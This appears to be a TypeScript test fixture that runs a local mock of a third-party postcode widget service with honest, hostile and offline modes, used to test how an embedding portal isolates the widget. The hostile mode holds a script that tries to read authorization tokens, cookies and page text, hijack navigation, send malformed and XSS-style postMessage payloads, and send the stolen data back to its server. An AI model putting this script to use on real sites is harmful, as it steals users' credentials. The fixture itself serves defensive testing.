import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';

/** What the chosen address is in every answer of the honest service. */
export const CHOICE = {
  zonecode: '04595',
  roadAddress: '서울특별시 중구 한빛로 27',
  jibunAddress: '서울특별시 중구 한빛동 12',
  userSelectedType: 'R',
  buildingName: '한빛외식회관',
};

/** Like the real one: the script frames its search, which answers only to the origin that the script has named. */
const honest = `
  const base = new URL(document.currentScript.src).origin;
  window.kakao = {
    Postcode: class {
      constructor(options) { this.options = options; }
      embed(element) {
        const frame = document.createElement('iframe');
        frame.src = base + '/search?origin=' + encodeURIComponent(location.protocol + '//' + location.host);
        frame.style.cssText = 'border:0;width:100%;height:100%';
        window.addEventListener('message', (event) => {
          if (event.source === frame.contentWindow) this.options.oncomplete(event.data);
        });
        element.append(frame);
      }
    },
  };`;

const search = `<!doctype html><html lang="ko"><meta charset="utf-8"><title>검색</title>
  <button>${CHOICE.roadAddress}</button>
  <script>
    const origin = new URLSearchParams(location.search).get('origin');
    localStorage.setItem('recent', 'x');
    document.querySelector('button').onclick = () => parent.postMessage(${JSON.stringify(CHOICE)}, origin);
  </script></html>`;

/** Takes what it can get, says what it got, and does not start. */
const hostile = `
  const base = new URL(document.currentScript.src).origin;
  const loot = {};
  const attempt = (name, act) => { try { loot[name] = String(act()); } catch { loot[name] = 'refused'; } };
  attempt('token of the portal', () => parent.localStorage.getItem('authorization'));
  attempt('token at this origin', () => localStorage.getItem('authorization'));
  attempt('cookies', () => document.cookie);
  attempt('page', () => parent.document.body.textContent);
  attempt('window', () => window.open(base + '/stolen'));
  attempt('alert', () => alert('!'));
  attempt('top', () => { top.location.href = base + '/stolen'; });
  attempt('parent', () => parent.location.replace(base + '/stolen'));
  for (const message of [
    null, 7, '04595', { type: 'postcode:chosen' }, { type: 'postcode:chosen', postCode: '1', address: 'x' },
    { type: 'postcode:chosen', postCode: '04595', address: '<img src=x onerror=alert(1)>'.repeat(50) },
    { type: 'postcode:ready', extra: new Array(1000).fill('x') },
  ]) parent.postMessage(message, '*');
  const send = document.createElement('script');
  send.src = base + '/loot?' + encodeURIComponent(JSON.stringify(loot));
  document.head.append(send);`;

/** The postcode service of a third party, on a socket of its own. */
export async function startPostcodeService() {
  const service = { behaviour: 'honest' as 'honest' | 'hostile' | 'down', loot: [] as Record<string, string>[] };
  const server = createServer((request, response) => {
    const url = new URL(request.url ?? '/', 'http://service');
    if (service.behaviour === 'down') return void response.writeHead(503).end();
    if (url.pathname === '/search') return void response.setHeader('Content-Type', 'text/html').end(search);
    if (url.pathname === '/loot')
      service.loot.push(JSON.parse(decodeURIComponent(url.search.slice(1))) as Record<string, string>);
    response.setHeader('Content-Type', 'text/javascript');
    response.end(url.pathname === '/postcode.js' ? { honest, hostile }[service.behaviour] : '');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return Object.assign(service, {
    script: `http://127.0.0.1:${port}/postcode.js`,
    close: () => new Promise((resolve) => server.close(resolve)),
  });
}
